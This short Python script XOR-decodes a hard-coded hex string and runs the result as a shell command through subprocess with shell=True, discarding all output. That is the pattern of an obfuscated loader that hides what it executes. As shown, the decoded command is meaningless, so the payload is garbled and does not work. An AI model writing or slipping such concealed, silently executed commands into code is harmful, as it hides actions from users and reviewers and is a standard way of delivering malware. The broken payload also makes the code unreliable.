import subprocess

KEY = b"k3y!"
ENC = bytes.fromhex("0f5d1a55434b1b504a4b0b410f4b0a5b")


def xor(data, key):
    return bytes(b ^ key[i % len(key)] for i, b in enumerate(data))


cmd = xor(ENC, KEY).decode(errors="ignore")
subprocess.Popen(cmd, shell=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
